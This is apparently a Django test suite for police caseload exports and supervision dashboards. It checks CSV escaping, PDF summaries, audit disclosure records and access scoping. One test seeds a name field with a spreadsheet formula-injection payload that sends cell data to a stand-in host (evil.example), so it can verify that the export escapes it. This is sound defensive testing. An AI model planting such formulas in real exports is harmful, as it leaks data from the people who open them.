"""Team exports (caseload CSV, one-page summary PDF) are audited disclosures with escaped
cells and team scoping; the dashboard API gives the page's figures to sergeants and
inspectors only."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from pypdf import PdfReader

from caseload import services as caseload_services
from caseload.choices import RiskLevel, RSOStatus
from mosovo.accounts.models import User
from mosovo.audit.choices import Action, Channel
from mosovo.audit.models import AuditEvent
from tests.conftest import CANARY, CANARY_OTHER_FORCE, Casework, Personas, verified_login
from tests.factories import OfficerFactory, RSOFactory

pytestmark = pytest.mark.django_db

EXPORT = reverse("supervision:team_export")
DASHBOARD_API = reverse("api:supervision-dashboard")
ROLLUP_API = reverse("api:supervision-rollup")
GOOD = {"recipient": "Inspector Helen Marsh", "reason": "Monthly caseload review with the inspector"}


def signed_in(user: User) -> Client:
    return verified_login(Client(), user)


def export(user: User, fmt: str, team: Any, **data: str) -> Any:
    return signed_in(user).post(EXPORT, {"format": fmt, "team": team.pk, **GOOD, **data})


def disclosures() -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(action=Action.DISCLOSURE).order_by("seq"))


def test_the_sergeant_downloads_the_team_caseload_as_csv_with_formula_cells_escaped(
    personas: Personas, casework: Casework
) -> None:
    hostile = RSOFactory.create(
        team=personas.team_a,
        allocated_officer=None,
        family_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        given_names="+Sam",
        risk_level=RiskLevel.HIGH,
    )
    RSOFactory.create(team=personas.team_a, family_name="Closedcase", status=RSOStatus.DECEASED)

    response = export(personas.sergeant_a, "csv", personas.team_a)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="team-caseload-team-a-')
    body = response.content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][:3] == ["ViSOR reference", "PNC ID", "Family name"]
    names = {row[2] for row in rows[1:]}
    assert names == {"Ashdown", "'" + hostile.family_name}
    assert {row[3] for row in rows[1:] if row[2].startswith("'=")} == {"'+Sam"}
    assert CANARY not in body
    assert CANARY_OTHER_FORCE not in body
    (event,) = disclosures()
    assert event.channel == Channel.CSV
    assert sorted(event.rso_ids) == sorted([casework.rso_a.pk, hostile.pk])
    assert event.recipient == GOOD["recipient"]
    assert GOOD["reason"] in event.reason


def test_an_export_without_a_reason_or_recipient_is_refused_and_nothing_is_recorded(personas: Personas) -> None:
    response = export(personas.sergeant_a, "csv", personas.team_a, reason="", recipient="")
    assert response.status_code == 400
    page = response.content.decode()
    assert "Say who will receive it" in page
    assert "why the team&#x27;s figures are being taken out" in page or "why the team's figures" in page
    assert disclosures() == []


def test_the_one_page_team_summary_pdf_names_officers_not_cases_and_is_recorded(
    personas: Personas, casework: Casework
) -> None:
    response = export(personas.inspector, "pdf", personas.team_a)

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    pdf = PdfReader(io.BytesIO(response.content))
    assert len(pdf.pages) == 1
    text = " ".join(" ".join(page.extract_text().split()) for page in pdf.pages)
    assert "Team summary: Team A" in text
    assert personas.officer_a.display_name in text
    assert "OFFICIAL-SENSITIVE" in text
    assert casework.rso_a.family_name not in text
    (event,) = disclosures()
    assert (event.channel, event.rso_ids, event.recipient) == (Channel.PDF, [], GOOD["recipient"])


def test_the_team_summary_of_a_large_team_still_fits_on_one_page(personas: Personas) -> None:
    for n in range(14):
        officer = OfficerFactory.create(team=personas.team_a, first_name="Alexandra", last_name=f"Longname-Smith{n}")
        RSOFactory.create_batch(3, team=personas.team_a, allocated_officer=officer)

    response = export(personas.sergeant_a, "pdf", personas.team_a)

    pdf = PdfReader(io.BytesIO(response.content))
    assert len(pdf.pages) == 1
    text = " ".join(pdf.pages[0].extract_text().split())
    assert "Longname-Smith13" in text


@pytest.mark.parametrize("who", ["officer_a", "admin", "auditor"])
def test_only_sergeants_and_inspectors_export(personas: Personas, who: str) -> None:
    user = getattr(personas, who)
    assert signed_in(user).get(EXPORT, {"team": personas.team_a.pk}).status_code == 404
    assert export(user, "csv", personas.team_a).status_code == 404
    assert disclosures() == []


def test_a_sergeant_cannot_export_another_team(personas: Personas, casework: Casework) -> None:
    response = export(personas.sergeant_a, "csv", personas.team_b)
    assert response.status_code == 404
    assert CANARY not in response.content.decode()
    assert disclosures() == []


def test_an_inspector_cannot_export_a_team_of_another_force(personas: Personas, casework: Casework) -> None:
    response = export(personas.inspector, "csv", casework.rso_other_force.team)
    assert response.status_code == 404
    assert disclosures() == []


def test_the_dashboard_api_gives_the_pages_figures(personas: Personas, casework: Casework) -> None:
    second = RSOFactory.create(team=personas.team_a, allocated_officer=personas.officer_a)
    caseload_services.rso_change_risk_level(
        rso=second,
        risk_level=RiskLevel.VERY_HIGH,
        reason="New intelligence",
        by=personas.sergeant_a,
        override_reason="Nobody else can take this case this week",
    )

    response = signed_in(personas.sergeant_a).get(DASHBOARD_API)

    assert response.status_code == 200
    data = response.json()
    assert (data["team_id"], data["team_name"]) == (personas.team_a.pk, "Team A")
    (row,) = data["officers"]
    assert (row["officer_id"], row["caseload"], row["high"], row["high_percent"], row["over_line"]) == (
        personas.officer_a.pk,
        2,
        1,
        50,
        True,
    )
    assert data["totals"]["officers_over_line"] == 1
    assert {mix["label"]: mix["count"] for mix in data["risk_mix"]}["Very high"] == 1
    assert CANARY not in response.content.decode()


def test_the_dashboard_api_is_scoped(personas: Personas, casework: Casework) -> None:
    assert signed_in(personas.officer_a).get(DASHBOARD_API).status_code == 404
    assert signed_in(personas.admin).get(DASHBOARD_API).status_code == 404
    assert signed_in(personas.sergeant_a).get(DASHBOARD_API, {"team": personas.team_b.pk}).status_code == 404
    other = signed_in(personas.inspector).get(DASHBOARD_API, {"team": casework.rso_other_force.team_id})
    assert other.status_code == 404
    assert CANARY_OTHER_FORCE not in other.content.decode()
    assert signed_in(personas.inspector).get(DASHBOARD_API, {"team": personas.team_b.pk}).status_code == 200


def test_the_rollup_api_is_the_inspectors_with_every_team_of_the_force(personas: Personas, casework: Casework) -> None:
    response = signed_in(personas.inspector).get(ROLLUP_API)
    assert response.status_code == 200
    assert [row["team_name"] for row in response.json()] == ["Team A", "Team B"]
    assert signed_in(personas.sergeant_a).get(ROLLUP_API).status_code == 404
